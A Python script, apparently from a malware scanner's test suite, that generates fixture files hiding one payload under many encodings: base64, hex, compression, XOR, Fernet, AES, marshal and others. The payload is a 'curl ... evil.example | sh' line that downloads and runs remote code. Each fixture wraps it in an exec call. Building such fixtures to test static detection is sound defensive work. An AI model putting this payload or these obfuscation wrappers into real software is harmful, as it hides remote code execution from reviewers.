"""Regenerate the layer fixtures: one file per way of hiding the same payload.

The payload is benign-shaped test text (it is never run: malpi reads it statically). Run with
Python 3.11 and the `cryptography` package, isolated so that nothing here is imported:
python3 -I make_layers.py
"""
import base64, bz2, codecs, gzip, lzma, marshal, os, zlib

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

PAYLOAD = 'import os\nos.system("curl -s http://evil.example/x | sh")\n'
P = PAYLOAD.encode()


def write(name, body):
    # `layer_` prefix: a fixture named like a stdlib module would shadow it for any Python
    # started in this folder.
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "layer_" + name), "w") as f:
        f.write(body)


write("plain.py", PAYLOAD)
write("base64.py", f"import base64\nexec(base64.b64decode({base64.b64encode(P)!r}))\n")
write("base32.py", f"import base64\nexec(base64.b32decode({base64.b32encode(P)!r}))\n")
write("base85.py", f"import base64\nexec(base64.b85decode({base64.b85encode(P)!r}))\n")
write("a85.py", f"import base64\nexec(base64.a85decode({base64.a85encode(P)!r}))\n")
write("hex.py", f"exec(bytes.fromhex({P.hex()!r}))\n")
write("zlib.py", f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(P))!r})))\n")
write("gzip.py", f"import gzip\nexec(gzip.decompress({gzip.compress(P, mtime=0)!r}))\n")
write("bz2.py", f"import bz2\nexec(bz2.decompress({bz2.compress(P)!r}))\n")
write("lzma.py", f"import lzma, base64\nexec(lzma.decompress(base64.b64decode({base64.b64encode(lzma.compress(P))!r})))\n")
write("rot13.py", f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))\n")
write("reversed.py", f"exec({PAYLOAD[::-1]!r}[::-1])\n")
write("chr_list.py", f"exec(''.join(chr(c) for c in {list(P)!r}))\n")
write("bytes_list.py", f"exec(bytes({list(P)!r}))\n")
key = b"k3y"
x = bytes(b ^ key[i % 3] for i, b in enumerate(P))
write("xor.py", f"import itertools\nexec(bytes(a ^ b for a, b in zip({x!r}, itertools.cycle({key!r}))))\n")
fkey = Fernet.generate_key()
write("fernet.py", f"from cryptography.fernet import Fernet\nexec(Fernet({fkey!r}).decrypt({Fernet(fkey).encrypt(P)!r}))\n")
akey, iv = os.urandom(16), os.urandom(16)
pad = 16 - len(P) % 16
enc = Cipher(algorithms.AES(akey), modes.CBC(iv)).encryptor()
data = enc.update(P + bytes([pad]) * pad) + enc.finalize()
write("aes.py", f"from Crypto.Cipher import AES\nexec(AES.new({akey!r}, AES.MODE_CBC, {iv!r}).decrypt({data!r}))\n")
code = marshal.dumps(compile(PAYLOAD, "<payload>", "exec"))
write("marshal.py", f"import marshal\nexec(marshal.loads({code!r}))\n")
